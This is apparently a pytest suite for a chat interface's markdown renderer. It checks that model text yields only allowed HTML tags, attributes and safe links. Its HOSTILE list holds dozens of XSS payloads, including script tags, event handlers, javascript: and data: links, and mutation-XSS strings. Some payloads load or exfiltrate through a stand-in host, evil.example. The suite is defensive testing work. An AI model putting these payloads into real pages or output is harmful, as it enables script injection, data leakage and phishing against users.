"""Model text as HTML: what may appear, and what stays text."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chat.markdown import render, render_finished

TAGS = {
    *("a", "blockquote", "br", "code", "div", "em", "h3", "h4", "h5", "h6"),
    *("hr", "li", "ol", "p", "pre", "s", "span", "strong", "table"),
    *("tbody", "td", "th", "thead", "tr", "ul"),
}
ATTRIBUTES = {"href", "rel", "target", "class", "start", "data-lang"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<style>@import '//evil.example'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><button>x",
    "<!--><img src=x onerror=alert(1)>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](vbscript:x)",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/p.png?secret)",
    "![x](javascript:alert(1))",
    "[![x](https://evil.example/p.png)](https://evil.example)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![x][1]\n\n[1]: https://evil.example/p.png",
    "[x](https://a.example/\"onmouseover='alert(1)')",
    "[x](https://a.example \"t' onclick='alert(1)\")",
    '["><img src=x onerror=alert(1)>](https://a.example)',
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "| <img src=x onerror=alert(1)> |\n|---|\n| </table><script>1</script> |",
    "# <img src=x onerror=alert(1)>",
    "$\\<img src=x onerror=alert(1)>$ $$\\href{javascript:alert(1)}{x}$$",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "https://a.example/<script>alert(1)</script>",
    'https://a.example/" onmouseover=alert(1) x="',
    "* <p id=x name=y style='position:fixed'>",
    "\0<script\0>alert(1)</script>",
    "<a\u2028href=javascript:alert(1)>",
]


class _Reader(HTMLParser):
    """Every tag, attribute and piece of text of a fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.text = ""

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag not in {"br", "hr"}:
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        raise AssertionError("a comment")

    def handle_decl(self, decl):
        raise AssertionError("a declaration")

    def handle_pi(self, data):
        raise AssertionError("an instruction")


def read(html: str) -> _Reader:
    """The fragment taken apart; fails if anything but the allowed appears."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    assert reader.open == []
    for tag, attributes in reader.tags:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES
        href = attributes.get("href")
        if tag == "a" and href is not None:
            assert re.match(r"(https?://|mailto:)", href)
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"
    return reader


def links(text: str) -> list[str | None]:
    return [attrs["href"] for tag, attrs in read(render(text)).tags if tag == "a"]


class SafetyTests:
    @pytest.mark.parametrize("text", HOSTILE)
    def test_it_never_makes_markup_of_model_text(self, text):
        read(render(text))

    @pytest.mark.parametrize("text", HOSTILE)
    def test_it_never_makes_markup_inside_other_blocks(self, text):
        indented = text.replace("\n", "\n  ")
        for around in (f"- {indented}", f"> {indented}", f"**{text}**", f"a\n{text}\n"):
            read(render(around))

    @given(st.text(alphabet="<>\"'=&;:/[]()!`*_~#-|\\ \n\tab\0\r\u2028", max_size=120))
    def test_it_makes_allowed_markup_of_anything(self, text):
        read(render(text))

    @given(st.text(max_size=200))
    def test_it_takes_any_text(self, text):
        read(render(text))

    def test_it_loads_nothing_from_elsewhere(self):
        html = render("![x](https://evil.example/p.png) <img src=https://evil.example>")
        assert "<img" not in html
        assert "src=" not in html.replace("&lt;img src=", "")

    def test_it_shows_raw_html_as_text(self):
        assert read(render("<b>x</b>")).text.strip() == "<b>x</b>"

    def test_it_gives_no_ids_and_no_styles(self):
        html = render("| a |\n|--:|\n| b |\n\n# x {#y}\n\n<p id=z>")
        assert " id=" not in html.replace("&lt;p id=", "")
        assert " style=" not in html
        assert 'class="to-right"' in html


class LinkTests:
    def test_it_shows_the_host_where_the_words_do_not(self):
        html = render("[your bank](https://evil.example/x)")
        assert '<span class="host">evil.example</span>' in html

    def test_it_shows_the_host_where_the_words_lie(self):
        html = render("[https://good.example](https://evil.example)")
        assert '<span class="host">evil.example</span>' in html

    def test_it_does_not_repeat_a_host_that_is_told(self):
        assert "host" not in render("<https://a.example/x>")
        assert "host" not in render("[a.example](https://a.example)")

    def test_it_links_bare_addresses_without_the_prose(self):
        assert links("See https://a.example/x_y_z, or (http://b.example).") == [
            "https://a.example/x_y_z",
            "http://b.example",
        ]

    def test_it_links_nothing_inside_code(self):
        assert links("`https://a.example`\n\n```\nhttps://a.example\n```") == []

    def test_it_puts_no_link_into_a_link(self):
        assert links("[see https://a.example](https://b.example)") == [
            "https://b.example"
        ]

    def test_it_shows_a_refused_link_as_written(self):
        assert "[x](javascript:alert(1))" in render("[x](javascript:alert(1))")


class FormTests:
    def test_it_knows_paragraphs_lists_tables_and_code(self):
        tags = [
            tag
            for tag, _ in read(
                render(
                    "# Title\n\nSome *x* **y** ~~z~~ `c`\n\n- a\n- b\n\n7. c\n\n> q\n\n"
                    "| h |\n|---|\n| d |\n\n---\n\n```python\nx\n```"
                )
            ).tags
        ]
        expected = ("h3", "p", "em", "strong", "s", "code", "ul", "ol", "blockquote")
        assert set(expected) <= set(tags)
        assert {"table", "hr", "pre"} <= set(tags)

    def test_it_names_the_language_of_code(self):
        assert '<div class="code" data-lang="python">' in render("```python x\n1\n```")

    def test_it_starts_headings_below_those_of_the_page(self):
        assert [t for t, _ in read(render("# a\n## b\n###### c")).tags] == [
            "h3",
            "h4",
            "h6",
        ]

    def test_it_loses_no_text_of_deep_nesting(self):
        deep = "".join("  " * depth + f"- word{depth}\n" for depth in range(60))
        text = read(render(deep)).text
        assert all(f"word{depth}" in text for depth in range(60))
        assert "at last" in read(render(">" * 500 + " at last")).text

    def test_it_loses_no_text_of_a_very_long_paragraph(self):
        long = "*word* " * 3000
        assert read(render(long)).text.count("word") == 3000

    def test_it_refuses_tables_wide_enough_to_explode(self):
        wide = "|a" * 200 + "\n" + "|-" * 200 + "\n" + "|x|\n" * 50
        html = render(wide)
        assert "<td>" not in html
        assert len(html) < 10 * len(wide)

    def test_it_reads_every_kind_of_line_end(self):
        assert render("a\r\n\r\nb\rc") == render("a\n\nb\nc")

    def test_it_remembers_without_changing(self):
        assert render_finished("*x*") == render_finished("*x*") == render("*x*")
